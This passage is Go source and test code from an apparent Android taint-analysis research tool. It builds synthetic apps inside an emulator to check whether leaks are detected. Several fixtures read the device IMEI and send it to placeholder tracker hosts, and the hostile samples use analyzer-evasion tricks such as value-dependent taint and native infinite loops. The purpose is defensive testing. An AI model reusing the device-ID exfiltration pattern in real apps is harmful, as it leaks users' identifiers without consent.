			cb.NativeMethod("rebind", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				// Hot loop: five crossings of the benign impl, enough to fuse.
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "rebind", "V").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "rebind", prog, "Java_rebind")
		},
	}
}

// --- hostile corpus ----------------------------------------------------------
//
// The market study's operating assumption is that native code is adversarial.
// These three apps each attack a different layer: the first never terminates,
// the second dereferences a wild pointer, the third ships structurally broken
// bytecode. A correct analyzer reports Timeout/Fault verdicts with the
// partial flow log gathered so far; it never hangs or crashes.

// HostileSpinApp enters a native infinite loop: `while(1);` after the JNI
// crossing. The deterministic instruction budget is the only thing that can
// stop it, so its expected verdict is Timeout.
func HostileSpinApp() *App {
	const cls = "Lcom/hostile/spin/Main;"
	return &App{
		Name:          "hostile-spin",
		Desc:          "hostile: native infinite loop (watchdog budget must fire)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictTimeout,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libspin.so", `
; void spin(JNIEnv*, jclass) — never returns
Java_spin:
	MOV R0, #0
spin_loop:
	ADD R0, R0, #1
	B spin_loop
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("spin", "V", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "spin", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "spin", prog, "Java_spin")
		},
	}
}

// HostileWildApp stores through a NULL pointer from native code. The guard
// window around the mapped guest layout turns the store into an
// UnmappedAccess fault raised by the ARM layer, which walks the whole
// degradation ladder (the store faults identically under every mode that
// executes native code) and ends in a Fault verdict.
func HostileWildApp() *App {
	const cls = "Lcom/hostile/wild/Main;"
	return &App{
		Name:          "hostile-wild",
		Desc:          "hostile: native NULL-pointer store (UnmappedAccess fault)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictFault,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libwild.so", `
; void smash(JNIEnv*, jclass) — *(int*)0 = 42
Java_smash:
	PUSH {R4, LR}
	MOV R0, #0
	MOV R1, #42
	STR R1, [R0]
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("smash", "V", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "smash", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "smash", prog, "Java_smash")
		},
	}
}

// HostileDexApp registers a class whose "broken" method body has been
// truncated after building — its bytecode falls off the end of the
// instruction stream, the static shape dex.Method.Validate rejects. The
// entry method does one observable JNI call first (so a partial flow log
// exists), then invokes the broken method; execution reaches the truncation
// and raises MalformedDex. A dvm/dex-layer fault is a property of the app,
// not of the instrumentation, so no mode degradation is attempted.
func HostileDexApp() *App {
	const cls = "Lcom/hostile/dex/Main;"
	return &App{
		Name:          "hostile-dex",
		Desc:          "hostile: truncated method body (MalformedDex fault)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictFault,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libtrunc.so", `
; void touch(JNIEnv*, jclass)
Java_touch:
	PUSH {R4, LR}
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("touch", "V", dex.AccStatic, 0)
			cb.Method("broken", "V", dex.AccStatic, 1).
				ConstString(0, "never-reached").
				ReturnVoid().
				Done()
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "touch", "V").
				InvokeStatic(cls, "broken", "V").
				ReturnVoid().
				Done()
			built := cb.Build()
			// Truncate the trailing return: the method now falls off the end
			// of its instruction stream, like a bit-rotted or deliberately
			// malformed dex file.
			if m, ok := built.Method("broken"); ok {
				m.Insns = m.Insns[:len(m.Insns)-1]
			}
			sys.VM.RegisterClass(built)
			return sys.VM.BindNative(cls, "touch", prog, "Java_touch")
		},
	}
}
