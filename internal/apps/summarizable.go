package apps

import (
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// This file holds the summary-synthesis corpus: three benign apps whose
// native halves are pure-register ALU/FP code — exactly the shape the static
// summary synthesizer (internal/summary) can prove a transfer function for —
// plus hostile-sumdodge, whose native taint behavior depends on the *value*
// of its argument and therefore has no input-insensitive summary at all.
//
// The benign three each push a tainted int (the IMEI string's length)
// through a hot native function from a constant-bound Java loop, so the bulk
// of the run's traced native instructions comes from the summarizable
// function. Under -summaries they are the "≥5x fewer traced native
// instructions" exhibits; the cfbench summary ablation asserts the ratio.

// SummixApp: a 400-iteration pure integer ALU loop behind JNI, called 64
// times. Every instruction is register-to-register or immediate, so the
// synthesized transfer (ret depends on arg2 only) is exact and mutation
// validation accepts it.
func SummixApp() *App {
	const cls = "Lcom/ndroid/summix/Main;"
	return &App{
		Name:                 "summix",
		Desc:                 "tainted int through a hot pure-ALU native loop (summarizable)",
		Case:                 "1",
		EntryClass:           cls,
		EntryMethod:          "run",
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsummix.so", `
; int mix(JNIEnv*, jclass, int x) — pure-register ALU loop, no memory access
Java_mix:
	MOV R0, R2
	MOV R12, #400
mix_loop:
	ADD R0, R0, #3
	EOR R0, R0, R2
	SUB R12, R12, #1
	CMP R12, #0
	BNE mix_loop
	BX LR
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("mix", "II", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 4).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				Const(1, 0).
				Const(2, 64).
				Label("loop").
				IfZ(2, dex.Le, "done").
				InvokeStatic(cls, "mix", "II", 0).
				MoveResult(3).
				Bin(dex.Add, 1, 1, 3).
				BinLit(dex.Sub, 2, 2, 1).
				Goto("loop").
				Label("done").
				InvokeStatic("Ljava/lang/String;", "valueOf", "LI", 1).
				MoveResult(1).
				ConstString(2, "ad.tracker.example.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 2, 1).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "mix", prog, "Java_mix")
		},
	}
}

// SumfoldApp: like summix but the hot native function delegates to a local
// helper via BL, exercising the synthesizer's bottom-up callee composition
// (the helper writes only caller-saved registers, so the caller's summary
// composes over it).
func SumfoldApp() *App {
	const cls = "Lcom/ndroid/sumfold/Main;"
	return &App{
		Name:                 "sumfold",
		Desc:                 "summarizable native whose loop body is a local BL helper (callee composition)",
		Case:                 "1",
		EntryClass:           cls,
		EntryMethod:          "run",
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsumfold.so", `
; int fold(JNIEnv*, jclass, int x) — non-leaf, saves LR in a register (no
; stack) so the whole function stays memory-free and summarizable
Java_fold:
	MOV R1, LR
	MOV R0, R2
	MOV R12, #100
fold_loop:
	BL fold_step
	SUB R12, R12, #1
	CMP R12, #0
	BNE fold_loop
	MOV LR, R1
	BX LR

; int fold_step(int acc) — acc in R0; clobbers only caller-saved R0/R3
fold_step:
	MOV R3, #10
fs_loop:
	ADD R0, R0, #7
	SUB R3, R3, #1
	CMP R3, #0
	BNE fs_loop
	BX LR
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("fold", "II", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 4).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				Const(1, 0).
				Const(2, 64).
				Label("loop").
				IfZ(2, dex.Le, "done").
				InvokeStatic(cls, "fold", "II", 0).
				MoveResult(3).
				Bin(dex.Add, 1, 1, 3).
				BinLit(dex.Sub, 2, 2, 1).
				Goto("loop").
				Label("done").
				InvokeStatic("Ljava/lang/String;", "valueOf", "LI", 1).
				MoveResult(1).
				ConstString(2, "ad.tracker.example.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 2, 1).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "fold", prog, "Java_fold")
		},
	}
}

// SumfloatApp: the hot native function runs a single-precision FP loop
// (SITOF/FADDS/FMULS/FSUBS/FTOSI). The tracer models these register-to-
// register, so they are in the synthesizer's eligible set; this app keeps
// the FP rows of the transfer table honest.
func SumfloatApp() *App {
	const cls = "Lcom/ndroid/sumfloat/Main;"
	return &App{
		Name:                 "sumfloat",
		Desc:                 "summarizable FP-register-only native loop (SITOF/FADDS/FTOSI)",
		Case:                 "1",
		EntryClass:           cls,
		EntryMethod:          "run",
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsumfloat.so", `
; int fmix(JNIEnv*, jclass, int x) — FP-register-only loop
Java_fmix:
	SITOF R0, R2
	MOV R3, #3
	SITOF R1, R3
	MOV R12, #300
fm_loop:
	FADDS R0, R0, R1
	FMULS R3, R0, R1
	FSUBS R0, R3, R1
	SUB R12, R12, #1
	CMP R12, #0
	BNE fm_loop
	FTOSI R0, R0
	BX LR
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("fmix", "II", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 4).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				Const(1, 0).
				Const(2, 64).
				Label("loop").
				IfZ(2, dex.Le, "done").
				InvokeStatic(cls, "fmix", "II", 0).
				MoveResult(3).
				Bin(dex.Add, 1, 1, 3).
				BinLit(dex.Sub, 2, 2, 1).
				Goto("loop").
				Label("done").
				InvokeStatic("Ljava/lang/String;", "valueOf", "LI", 1).
				MoveResult(1).
				ConstString(2, "ad.tracker.example.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 2, 1).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "fmix", prog, "Java_fmix")
		},
	}
}

// HostileSumdodgeApp: the native gate() returns its argument when the
// argument value is nonzero and a constant 0 otherwise. The static May
// summary says "ret depends on arg2" — which over-taints the tainted-zero
// call and would fire a spurious leak on the first sink. Mutation validation
// catches the value dependence (the zero-mutation run observes no
// dependence) and demotes the function to full tracing, so under
// -summaries=validated the flow log is byte-identical to -summaries=off:
// first sink clean, second sink leaks the IMEI-derived value.
func HostileSumdodgeApp() *App {
	const cls = "Lcom/hostile/sumdodge/Main;"
	return &App{
		Name:                 "hostile-sumdodge",
		Desc:                 "hostile: input-value-dependent native taint defeats static summaries",
		Case:                 "2",
		EntryClass:           cls,
		EntryMethod:          "run",
		Hostile:              true,
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsumdodge.so", `
; int gate(JNIEnv*, jclass, int x) — taint transfer depends on the VALUE of
; x: nonzero passes the argument through, zero returns a clean constant.
Java_gate:
	CMP R2, #0
	BEQ gate_zero
	MOV R0, R2
	BX LR
gate_zero:
	MOV R0, #0
	BX LR
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("gate", "II", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 4).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				// z = n - n: a *tainted zero*. gate(z) really returns a clean
				// constant, but the static summary would taint it.
				Bin(dex.Sub, 1, 0, 0).
				Const(2, 1).
				// Warm-up crossing with an untainted nonzero argument: this is
				// where validated mode runs the mutation plan and rejects.
				InvokeStatic(cls, "gate", "II", 2).
				MoveResult(3).
				InvokeStatic(cls, "gate", "II", 1).
				MoveResult(1).
				// Sink A: clean under full tracing (gate(z) took the zero
				// path); an applied static summary over-taints it here.
				InvokeStatic("Ljava/lang/String;", "valueOf", "LI", 1).
				MoveResult(1).
				ConstString(2, "sink.sumdodge.example").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 2, 1).
				// Sink B: the real leak — gate(n) passes the tainted length.
				InvokeStatic(cls, "gate", "II", 0).
				MoveResult(0).
				InvokeStatic("Ljava/lang/String;", "valueOf", "LI", 0).
				MoveResult(0).
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 2, 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "gate", prog, "Java_gate")
		},
	}
}
