package apps_test

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
)

// summaryModes are the three settings of the -summaries flag; off is the
// baseline the other two must match byte for byte (with the one documented
// hostile-sumdodge static-tier exception).
var summaryModes = []core.SummaryMode{core.SummaryStatic, core.SummaryValidated}

// sumdodgeStaticDiverges marks the one corpus/mode/setting cell where flow
// logs are ALLOWED (and required) to differ: hostile-sumdodge's native taint
// transfer depends on its argument's value, so the unvalidated static
// summary over-taints a tainted-zero call and fires a spurious early leak.
// Summaries only activate under NDroid; every other mode is dead parity.
func sumdodgeStaticDiverges(app *apps.App, mode core.Mode, sm core.SummaryMode) bool {
	return app.Name == "hostile-sumdodge" && mode == core.ModeNDroid && sm == core.SummaryStatic
}

// TestSummaryParityAllAppsAllModes is the summary soundness contract: for
// every corpus app (benign + hostile) under every analysis mode, runs with
// -summaries=static and -summaries=validated produce byte-identical flow
// logs and verdicts versus -summaries=off — except the documented
// hostile-sumdodge static-tier cell, where the divergence must actually
// occur (otherwise the hostile app is not doing its job).
func TestSummaryParityAllAppsAllModes(t *testing.T) {
	for _, app := range apps.AllApps() {
		for _, mode := range allModes {
			app, mode := app, mode
			t.Run(app.Name+"/"+mode.String(), func(t *testing.T) {
				base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true,
				})
				want := outcomeOf(base)
				for _, sm := range summaryModes {
					got := outcomeOf(core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
						Mode: mode, Budget: testBudget, FlowLog: true, Summaries: sm,
					}))
					if sumdodgeStaticDiverges(app, mode, sm) {
						if got.log == want.log {
							t.Errorf("%v: hostile-sumdodge failed to defeat the static tier (logs identical)", sm)
						}
						continue
					}
					if got.verdict != want.verdict {
						t.Errorf("%v: verdict %v, baseline %v", sm, got.verdict, want.verdict)
					} else if got.log != want.log {
						t.Errorf("%v: flow log diverged:\n--- off ---\n%s\n--- %v ---\n%s",
							sm, want.log, sm, got.log)
					}
				}
			})
		}
	}
}

// TestSumdodgeValidationRejects pins the mutation-validation mechanics on
// the hostile app: under -summaries=validated the candidate summary for
// Java_gate is rejected at the first crossing (the zero-mutation run
// observes no dependence where the static transfer claims one), nothing is
// ever applied, and the real leak is still caught.
func TestSumdodgeValidationRejects(t *testing.T) {
	app, ok := apps.ByName("hostile-sumdodge")
	if !ok {
		t.Fatal("hostile-sumdodge missing")
	}
	r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Summaries: core.SummaryValidated,
	})
	if r.Verdict() != core.VerdictLeak {
		t.Fatalf("verdict = %v, want leak", r.Verdict())
	}
	res := r.Final.Result
	if len(res.SummaryRejections) != 1 {
		t.Fatalf("rejections = %v, want exactly one", res.SummaryRejections)
	}
	rej := res.SummaryRejections[0]
	if !strings.Contains(rej.Func, "gate") || rej.Reason != "validation-mismatch" {
		t.Errorf("rejection = %+v, want the gate method with validation-mismatch", rej)
	}
	if res.SummaryApplied != 0 {
		t.Errorf("SummaryApplied = %d, want 0 (rejected before any application)", res.SummaryApplied)
	}
	// Ground truth for the static tier: it really does apply the bogus
	// summary (spurious early leak), which is what validation prevents.
	s := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Summaries: core.SummaryStatic,
	})
	if s.Final.Result.SummaryApplied == 0 {
		t.Error("static tier applied no summary; the divergence exhibit is dead")
	}
}

// TestSummaryTracedReduction is the payoff assertion: for the three
// summarizable corpus apps, -summaries=validated must trace at least 5x
// fewer native instructions than full tracing while staying byte-identical
// (parity is covered above; this test holds the counters).
func TestSummaryTracedReduction(t *testing.T) {
	for _, name := range []string{"summix", "sumfold", "sumfloat"} {
		name := name
		t.Run(name, func(t *testing.T) {
			app, ok := apps.ByName(name)
			if !ok {
				t.Fatalf("%s missing", name)
			}
			off := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true,
			})
			val := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Summaries: core.SummaryValidated,
			})
			ob, vb := off.Final.Result.TracedInsns, val.Final.Result.TracedInsns
			if vb == 0 || ob < 5*vb {
				t.Errorf("traced insns: off=%d validated=%d, want >=5x reduction", ob, vb)
			}
			if val.Final.Result.SummaryApplied == 0 {
				t.Error("no crossing was served by the summary")
			}
			if len(val.Final.Result.SummaryRejections) != 0 {
				t.Errorf("unexpected rejections: %v", val.Final.Result.SummaryRejections)
			}
		})
	}
}

// TestPinswapVoidsSummaries reuses the hostile-pinswap app as the summary
// eviction regression: its RegisterNatives swap retargets a bound method
// mid-run, so every synthesized summary for the library must be dropped
// (SummariesVoided counts them) and the post-swap leak still caught with a
// byte-identical flow log versus summaries off.
func TestPinswapVoidsSummaries(t *testing.T) {
	app, ok := apps.ByName("hostile-pinswap")
	if !ok {
		t.Fatal("hostile-pinswap missing")
	}
	base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true,
	})
	r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Summaries: core.SummaryValidated,
	})
	if r.Final.Result.SummariesVoided == 0 {
		t.Error("RegisterNatives swap voided no summaries")
	}
	if got, want := outcomeOf(r), outcomeOf(base); got.verdict != want.verdict {
		t.Errorf("verdict %v, baseline %v", got.verdict, want.verdict)
	} else if got.log != want.log {
		t.Errorf("flow log diverged under summaries after the swap:\n--- off ---\n%s\n--- validated ---\n%s",
			want.log, got.log)
	}
}

// TestSummaryParityUnderRunner holds summary parity on the fork-server path
// and checks the CAS round trip: the first analysis synthesizes each
// library's summaries and stores them, the second reuses them (memory or
// disk) without re-synthesis, and both match the fresh-System baseline.
func TestSummaryParityUnderRunner(t *testing.T) {
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	runner, err := core.NewCachedRunner(store)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"summix", "sumfold", "sumfloat", "hostile-sumdodge"} {
		app, ok := apps.ByName(name)
		if !ok {
			t.Fatalf("%s missing", name)
		}
		base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
			Budget: testBudget, FlowLog: true,
		})
		for pass := 0; pass < 2; pass++ {
			r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Summaries: core.SummaryValidated, Runner: runner,
			})
			if got, want := outcomeOf(r), outcomeOf(base); got.verdict != want.verdict {
				t.Errorf("%s pass %d: verdict %v, baseline %v", name, pass, got.verdict, want.verdict)
			} else if got.log != want.log {
				t.Errorf("%s pass %d: snapshot-served summary run diverged from baseline", name, pass)
			}
		}
	}
	if runner.Stats.SummarySynths == 0 {
		t.Error("no summary synthesis recorded")
	}
	if runner.Stats.SummaryReuses == 0 {
		t.Error("second passes reused no cached summaries")
	}
	// Validation verdicts are deliberately not persisted: a reused summary
	// must still be re-validated per analysis, so hostile-sumdodge's second
	// pass rejects again rather than trusting a stale acceptance.
}

// TestSummaryParityParallelAndService holds summary parity under parallel
// study workers and under the analysis service with a warm artifact store:
// every row matches a sequential summaries-off sweep, on both the cold and
// the warm (verdict-replay) service pass.
func TestSummaryParityParallelAndService(t *testing.T) {
	base := map[string]appOutcome{}
	for _, row := range apps.RunStudy(apps.StudyOptions{Budget: testBudget, FlowLog: true}).Rows {
		base[row.App.Name] = appOutcome{
			verdict: row.Report.Verdict(),
			log:     strings.Join(row.Report.Final.Result.LogLines, "\n"),
		}
	}
	check := func(t *testing.T, rep *apps.StudyReport, leg string) {
		t.Helper()
		for _, row := range rep.Rows {
			got := appOutcome{
				verdict: row.Report.Verdict(),
				log:     strings.Join(row.Report.Final.Result.LogLines, "\n"),
			}
			want := base[row.App.Name]
			if got.verdict != want.verdict {
				t.Errorf("%s/%s: verdict %v, baseline %v", leg, row.App.Name, got.verdict, want.verdict)
			} else if got.log != want.log {
				t.Errorf("%s/%s: flow log diverged from summaries-off baseline", leg, row.App.Name)
			}
		}
	}

	rep := apps.RunStudyParallel(apps.StudyOptions{
		Budget: testBudget, FlowLog: true, Snapshot: true, Summaries: core.SummaryValidated,
	}, 4)
	check(t, rep, "parallel")

	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	opts := apps.StudyOptions{
		Budget: testBudget, FlowLog: true, Cache: store, Summaries: core.SummaryValidated,
	}
	cold, _, err := apps.RunStudyService(opts, 3)
	if err != nil {
		t.Fatal(err)
	}
	check(t, cold, "service-cold")
	warm, stats, err := apps.RunStudyService(opts, 3)
	if err != nil {
		t.Fatal(err)
	}
	check(t, warm, "service-warm")
	if stats.VerdictHits == 0 {
		t.Error("warm service pass replayed no verdicts")
	}
}
