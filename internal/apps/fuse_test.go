package apps_test

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/fault"
	"repro/internal/static"
)

func outcomeOf(r core.AppReport) appOutcome {
	return appOutcome{
		verdict: r.Verdict(),
		log:     strings.Join(r.Final.Result.LogLines, "\n"),
	}
}

// TestFusionParityAllAppsAllModes is the fusion soundness contract: for every
// corpus app (including the hostile set and the RegisterNatives re-binder)
// under every mode, a run with trace fusion produces a byte-identical flow log
// and verdict versus a run with every crossing on the unfused bridge.
func TestFusionParityAllAppsAllModes(t *testing.T) {
	for _, app := range apps.AllApps() {
		for _, mode := range allModes {
			app, mode := app, mode
			t.Run(app.Name+"/"+mode.String(), func(t *testing.T) {
				base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true, Fuse: core.FuseOff,
				})
				fused := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true, Fuse: core.FuseOn,
				})
				if got, want := outcomeOf(fused), outcomeOf(base); got.verdict != want.verdict {
					t.Errorf("verdict: fused %v, unfused %v", got.verdict, want.verdict)
				} else if got.log != want.log {
					t.Errorf("flow log diverged fused vs unfused:\n--- unfused ---\n%s\n--- fused ---\n%s",
						want.log, got.log)
				}
			})
		}
	}
}

// TestFusionParityWithStaticSeeds repeats the parity check with the static
// pre-analysis seeding fusion candidates (chains then build on the first
// crossing instead of at the heat threshold), which shifts every build point.
func TestFusionParityWithStaticSeeds(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Fuse: core.FuseOff, Static: static.PinLevel,
			})
			fused := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Fuse: core.FuseOn, Static: static.PinLevel,
			})
			if got, want := outcomeOf(fused), outcomeOf(base); got != want {
				t.Errorf("seeded fusion diverged: verdict %v vs %v", got.verdict, want.verdict)
			}
		})
	}
}

// TestFusionParityUnderSnapshotRunner holds fusion invisible on the
// fork-server path too: snapshot restore bumps the translation epoch, so
// every attempt starts chainless and re-fuses from scratch.
func TestFusionParityUnderSnapshotRunner(t *testing.T) {
	runner, err := core.NewRunner()
	if err != nil {
		t.Fatal(err)
	}
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Fuse: core.FuseOff,
			})
			fused := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
				Budget: testBudget, FlowLog: true, Fuse: core.FuseOn, Runner: runner,
			})
			if got, want := outcomeOf(fused), outcomeOf(base); got != want {
				t.Errorf("snapshot-served fused run diverged: verdict %v vs %v", got.verdict, want.verdict)
			}
		})
	}
}

// TestRebindDeoptsFusedChain proves the rebind app exercises the machinery it
// was built for: the benign impl gets hot and fuses, RegisterNatives
// re-registration drops the chain, and the leaking impl is still caught.
func TestRebindDeoptsFusedChain(t *testing.T) {
	app, ok := apps.ByName("rebind")
	if !ok {
		t.Fatal("rebind missing")
	}
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		t.Fatal(err)
	}
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	a.Budget = testBudget
	a.Log.Enabled = true
	res := a.Run(app.EntryClass, app.EntryMethod, nil, nil)
	if res.Verdict != core.VerdictLeak {
		t.Fatalf("verdict = %v, want leak\n%s", res.Verdict, strings.Join(res.LogLines, "\n"))
	}
	vm := sys.VM
	if vm.JavaFusedChains == 0 {
		t.Error("no fused chain was ever built")
	}
	if vm.JavaFusedCalls == 0 {
		t.Error("no crossing was served fused")
	}
	if vm.JavaFuseDeopts == 0 {
		t.Error("the RegisterNatives rebind did not deopt the chain")
	}
	if !a.Log.Contains("RegisterNatives ") {
		t.Error("re-registration not recorded in the flow log")
	}
	if !a.Log.Contains("SinkHandler[sendto]") {
		t.Error("post-rebind leak not caught by the native sink handler")
	}
	if n := len(sys.Kern.Net.SentTo("exfil.rebind.example")); n != 1 {
		t.Errorf("ground truth: %d sends to exfil host, want 1", n)
	}
}

// TestFusedDeoptInjectionHotChain arms the fused-deopt site on a crossing
// that is served by a hot chain (the rebind app's fifth `process` call) and
// requires the forced deopt to be byte-invisible: same verdict, same flow
// log, and the deopt counter records the drop.
func TestFusedDeoptInjectionHotChain(t *testing.T) {
	defer fault.Reset()
	app, ok := apps.ByName("rebind")
	if !ok {
		t.Fatal("rebind missing")
	}
	run := func() (rep core.AppReport, fusedCalls, deopts uint64) {
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			t.Fatal(err)
		}
		a := core.NewAnalyzer(sys, core.ModeNDroid)
		a.Budget = testBudget
		a.Log.Enabled = true
		res := a.Run(app.EntryClass, app.EntryMethod, nil, nil)
		rep = core.AppReport{Name: app.Name, Final: core.Attempt{Mode: core.ModeNDroid, Result: res}}
		return rep, sys.VM.JavaFusedCalls, sys.VM.JavaFuseDeopts
	}

	fault.Reset()
	base, baseFused, _ := run()

	// The fifth probe is the fifth crossing of `process`: the chain built at
	// the fourth is serving, so the injected corruption forces a live deopt
	// and that crossing reruns unfused — one fused dispatch fewer than the
	// clean run, with nothing else observable.
	fault.Reset()
	if err := fault.ArmNth(core.SiteFusedDeopt, fault.UnmappedAccess, 5); err != nil {
		t.Fatal(err)
	}
	injected, injFused, injDeopts := run()
	if n := fault.Fired(core.SiteFusedDeopt); n != 1 {
		t.Fatalf("site fired %d times, want 1", n)
	}
	if injDeopts == 0 {
		t.Error("injected corruption recorded no deopt")
	}
	if injFused != baseFused-1 {
		t.Errorf("fused dispatches: injected %d, baseline %d, want exactly one fewer", injFused, baseFused)
	}
	if got, want := outcomeOf(injected), outcomeOf(base); got.verdict != want.verdict {
		t.Errorf("verdict changed under injected deopt: %v vs %v", got.verdict, want.verdict)
	} else if got.log != want.log {
		t.Errorf("flow log diverged under injected deopt:\n--- base ---\n%s\n--- injected ---\n%s",
			want.log, got.log)
	}
}
