package apps_test

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
